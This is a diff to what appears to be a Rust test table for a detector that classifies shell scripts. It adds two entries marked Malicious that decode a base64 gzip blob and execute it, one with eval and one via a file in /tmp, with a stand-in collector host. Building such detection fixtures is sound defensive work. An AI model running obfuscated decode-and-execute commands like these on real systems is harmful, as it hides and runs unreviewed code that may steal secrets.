@@ -1564,6 +1564,27 @@ git commit --allow-empty -m x"##,
         place: "collector.example",
         verdict: Verdict::Suspicious,
     },
+    Way {
+        name: "packed and encoded code",
+        shell: "bash",
+        script: r##"c=$(echo H4sIAAAAAAACA0suLcpR0E1RUFJxVHFSUsgoKSkottLXT87PyUlNLskv0kutSMwtyEnVz8wDAD9oCKgrAAAA | base64 -d | gunzip)
+eval "$c""##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "packed code in a file",
+        shell: "bash",
+        script: r##"base64 -d <<< H4sIAAAAAAACA0suLcpR0E1RUFJxVHFSUsgoKSkottLXT87PyUlNLskv0kutSMwtyEnVz8wDAD9oCKgrAAAA > /tmp/s.gz
+gunzip /tmp/s.gz
+sh /tmp/s"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
 ];
 
 /// What people do with their own secrets in the same words.
